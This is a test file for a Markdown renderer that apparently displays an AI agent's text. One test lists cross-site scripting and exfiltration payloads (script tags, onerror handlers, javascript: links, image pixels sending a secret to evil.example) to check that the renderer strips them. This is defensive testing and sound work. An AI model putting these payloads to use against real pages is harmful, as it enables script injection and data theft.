// @vitest-environment jsdom
import { describe, expect, it } from "vitest";

import { renderMarkdown, settledLength, wordsOf } from "../markdown";

function html(text: string): string {
  const holder = document.createElement("div");
  holder.append(renderMarkdown(text));
  return holder.innerHTML;
}

function links(text: string): string[] {
  return [...renderMarkdown(text).querySelectorAll("a")].map((link) => link.dataset["target"] ?? "");
}

describe("a text of the agent", () => {
  it("is drawn as Markdown", () => {
    expect(html("It is **not**, see:\n\n- `a`\n- b")).toBe(
      "<p>It is <strong>not</strong>, see:</p>\n<ul>\n<li><code>a</code></li>\n<li>b</li>\n</ul>\n",
    );
    expect(html("```ts\nlet a = 1 < 2;\n```")).toContain('<div class="code-name">ts</div><pre><code>let a = 1 &lt; 2;\n</code></pre>');
    expect(html("| a | b |\n|---|---|\n| 1 | 2 |")).toContain("<table>");
  });

  it("is said without marks, a word apart from the next", () => {
    const said = wordsOf(renderMarkdown("# Why\n\nIt is **not**: see `a.ts`.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |"));
    expect(said.replace(/\s+/gu, " ").trim()).toBe("Why It is not: see a.ts. one two a b 1 2");
  });

  it("names files and addresses as links that only the extension opens", () => {
    expect(links("See src/a.ts:12, `lib/b.py` and https://example.com/x.")).toEqual(["src/a.ts:12", "lib/b.py", "https://example.com/x"]);
    expect(links("[here](src/a.ts#L3) and [there](https://example.com)")).toEqual(["src/a.ts#L3", "https://example.com"]);
    expect(links("`package.json:4`, e.g. Node.js 20.1 at 10:42 and a/b, `a.b()`")).toEqual(["package.json:4"]);
    expect(html("[a](https://example.com)")).not.toMatch(/href|src=/u);
  });

  it("loads nothing and runs nothing", () => {
    const attacks = [
      "![pixel](https://evil.example/?q=secret)",
      "![a][r]\n\n[r]: https://evil.example/i.png",
      "<img src=x onerror=alert(1)><script>alert(1)</script><iframe src='https://evil.example'></iframe>",
      "<style>@import 'https://evil.example';</style><link rel=stylesheet href=https://evil.example>",
      "<svg><image href='https://evil.example'/></svg><math><mtext></mtext></math>",
      "[x](javascript:alert(1)) [y](data:text/html,<script>alert(1)</script>) [z](command:workbench.action.quit)",
      "<a href='javascript:alert(1)'>x</a> <form action='https://evil.example'><input></form>",
      '[t](https://e.example "onmouseover=alert(1)") ![i](x "y\\" onerror=alert(1)")',
      "```html\n<img src=https://evil.example>\n```",
      '```"><img/src=x>\ncode\n```',
      "<!-- --><details open ontoggle=alert(1)>",
    ].join("\n\n");
    const fragment = renderMarkdown(attacks);
    const elements = [...fragment.querySelectorAll("*")];
    expect(fragment.querySelectorAll("img, script, style, link, iframe, svg, math, form, input, object, embed, details")).toHaveLength(0);
    const attributes = new Set(elements.flatMap((element) => element.getAttributeNames()));
    expect([...attributes].filter((name) => !["class", "data-target", "role", "tabindex", "title"].includes(name))).toEqual([]);
    expect(fragment.textContent).toContain("<img src=x onerror=alert(1)>");
  });

  it("hides nothing and reverses nothing", () => {
    expect(renderMarkdown("safe\u202etxt.exe \u200bx [a\u202e](https://e.example/\u2066b)").textContent).not.toMatch(/[\u200b\u202e\u2066]/u);
    expect(links("https://\u0430pple.com/a")).toEqual(["https://xn--pple-43d.com/a"]);
  });

  it("is drawn in time, however deep and long it is", () => {
    const before = performance.now();
    for (const mark of [">", "- ", "1. "]) {
      const deep = renderMarkdown(`${mark.repeat(60_000)}x\n\nthe end`).textContent;
      expect([deep.includes("x"), deep.endsWith("the end")], "nothing is left out").toEqual([true, true]);
    }
    renderMarkdown("[".repeat(50_000));
    renderMarkdown("*a ".repeat(30_000));
    expect(renderMarkdown("x".repeat(400_000)).textContent).toHaveLength(400_000 + 1);
    expect(performance.now() - before).toBeLessThan(15_000);
  });
});

describe("the part of a growing text that stays", () => {
  it.each([
    ["one paragraph", 0],
    ["one\n\ntwo", 5],
    ["one\n\ntwo\n\nthree", 10],
    ["one\n\n- a list", 0],
    ["- a\n\nafter", 5],
    ["```\na\n\nb", 0],
    ["```\na\n\nb\n```\n\nafter", 14],
    ["a\n\n    code", 0],
  ])("%j", (text, length) => {
    expect(settledLength(text)).toBe(length);
  });
});
